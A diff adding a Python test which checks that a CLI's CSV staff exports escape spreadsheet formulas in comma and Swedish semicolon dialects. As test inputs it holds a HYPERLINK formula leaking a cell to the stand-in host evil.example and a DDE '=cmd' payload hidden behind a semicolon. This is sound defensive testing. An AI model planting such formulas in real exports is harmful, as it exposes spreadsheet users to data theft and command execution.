@@ -19,12 +19,14 @@ from cryptography.hazmat.primitives.serialization import Encoding
 
 from firmware import ed25519
 from firmware import station_config as firmware_config
+from host import csvfile
 from host.backoffice.service import BackOffice
 from host.backoffice.site import Site
 from host.cli import main
 from protocol.records import decode_record, signed_part
 from tests.tls_pki import ca_certificate_der
 
+from ..csv_safety import cells, formulas, naive_formulas
 from .builders import keypair, lock_event, lock_record, upload
 
 
@@ -282,3 +284,22 @@ def test_an_https_station_config_carries_the_back_office_ca(cli: Cli, tmp_path: 
         (out / "station.json").read_bytes(), (out / "station.sig").read_bytes()
     )
     assert firmware_config.backoffice_ca(config) == PKI_DER
+
+
+def test_csv_exports_neutralise_formulas_in_both_dialects(cli: Cli, tmp_path: Path) -> None:
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
+    command = "Eva Ek;=cmd|' /C calc'!A0"
+    cli("staff", "add", hyperlink, "--unit", "1", "--code", "482913")
+    cli("staff", "add", command, "--unit", "2", "--code", "615240")
+    plain, swedish = tmp_path / "staff.csv", tmp_path / "staff-sv.csv"
+    cli("staff", "list", "--csv", str(plain))
+    cli("staff", "list", "--csv", str(swedish), "--csv-dialect", "sv")
+    for path, delimiter in ((plain, ","), (swedish, ";")):
+        content = path.read_bytes().decode("utf-8")
+        assert content.startswith("\ufeff") == (delimiter == ";")
+        assert formulas(content) == [], path.name
+        assert naive_formulas(content, ",") == naive_formulas(content, ";") == []
+        header, *rows = cells(content, delimiter)
+        names = [row[header.index("name")] for row in rows]
+        assert names == ["'" + hyperlink, "'Eva Ek;'=cmd|' /C calc'!A0"]
+        assert [r["name"] for r in csvfile.read_records(content)] == [hyperlink, command]
